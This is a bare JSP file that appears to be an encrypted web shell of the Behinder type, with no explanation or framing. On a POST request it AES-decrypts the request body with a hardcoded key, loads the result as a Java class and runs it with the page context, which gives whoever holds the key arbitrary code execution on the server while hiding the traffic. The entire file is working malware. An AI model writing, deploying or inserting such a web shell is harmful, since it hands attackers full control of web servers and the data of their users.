<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
    class Loader extends ClassLoader {
        Loader(ClassLoader parent) { super(parent); }
        public Class load(byte[] bytes) { return super.defineClass(bytes, 0, bytes.length); }
    }
%>
<%
    if (request.getMethod().equals("POST")) {
        String key = "0123456789abcdef";
        session.putValue("k", key);
        Cipher cipher = Cipher.getInstance("AES");
        cipher.init(Cipher.DECRYPT_MODE, new SecretKeySpec(key.getBytes(), "AES"));
        String body = request.getReader().readLine();
        byte[] klass = cipher.doFinal(Base64.getDecoder().decode(body));
        new Loader(this.getClass().getClassLoader()).load(klass).newInstance().equals(pageContext);
    }
%>
